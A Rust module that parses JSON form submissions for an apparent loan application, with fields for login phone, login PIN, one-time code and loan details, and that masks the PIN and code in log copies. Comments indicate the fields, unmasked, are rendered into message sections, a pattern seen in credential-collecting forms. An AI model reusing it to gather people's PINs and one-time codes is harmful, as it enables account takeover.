use serde_json::{Map, Value};

use crate::error::Error;
use crate::logging;

/// Keys rendered by a dedicated message section; everything else lands under
/// "Other".
pub const RENDERED_KEYS: [&str; 8] = [
    "submittedAt",
    "loginPhone",
    "loginPin",
    "otp",
    "plan",
    "loanAmount",
    "loanPeriod",
    "employment",
];

/// Fields replaced by their masked form in the log copy.
const MASKED_KEYS: [&str; 2] = ["loginPin", "otp"];

/// A form submission: an open-ended, order-preserving map of string keys to
/// JSON values.
///
/// Every recognized field is optional. Lookups coerce values to text on a
/// best-effort basis, so a malformed sub-value degrades to its textual form
/// instead of failing the request.
#[derive(Debug, Clone, Default)]
pub struct Submission(Map<String, Value>);

impl Submission {
    /// Parse a raw request body.
    ///
    /// An empty body is an empty submission; any other body must be a JSON
    /// object with string keys.
    pub fn from_body(body: &[u8]) -> Result<Self, Error> {
        if body.is_empty() {
            return Ok(Self::default());
        }

        serde_json::from_slice(body)
            .map(Self)
            .map_err(|_| Error::InvalidJson)
    }

    pub fn get(&self, key: &str) -> Option<&Value> {
        self.0.get(key)
    }

    /// JS-style truthiness: absent, null, false, 0 and "" are falsy, every
    /// other value (including the string "0") is truthy.
    pub fn is_truthy(&self, key: &str) -> bool {
        self.get(key).is_some_and(value_is_truthy)
    }

    /// Textual form of a field, empty when absent or null.
    pub fn text(&self, key: &str) -> String {
        self.get(key).map(value_text).unwrap_or_default()
    }

    /// Shallow copy with sensitive fields masked, serialized into the request
    /// log line. Never sent anywhere.
    pub fn masked(&self) -> Map<String, Value> {
        let mut copy = self.0.clone();
        for key in MASKED_KEYS {
            let masked = match copy.get(key) {
                Some(value) if value_is_truthy(value) => logging::mask(&value_text(value)),
                _ => continue,
            };
            copy.insert(key.to_string(), Value::String(masked));
        }
        copy
    }

    /// Fields without a dedicated section, in payload order. Falsy values are
    /// kept; they render as empty text.
    pub fn extras(&self) -> impl Iterator<Item = (&str, &Value)> {
        self.0
            .iter()
            .filter(|(key, _)| !RENDERED_KEYS.contains(&key.as_str()))
            .map(|(key, value)| (key.as_str(), value))
    }
}

impl From<Map<String, Value>> for Submission {
    fn from(fields: Map<String, Value>) -> Self {
        Self(fields)
    }
}

fn value_is_truthy(value: &Value) -> bool {
    match value {
        Value::Null => false,
        Value::Bool(b) => *b,
        Value::Number(n) => n.as_f64() != Some(0.0),
        Value::String(s) => !s.is_empty(),
        Value::Array(_) | Value::Object(_) => true,
    }
}

/// Best-effort text for any JSON value. Strings pass through untouched;
/// nested structures render as compact JSON rather than failing.
pub(crate) fn value_text(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}
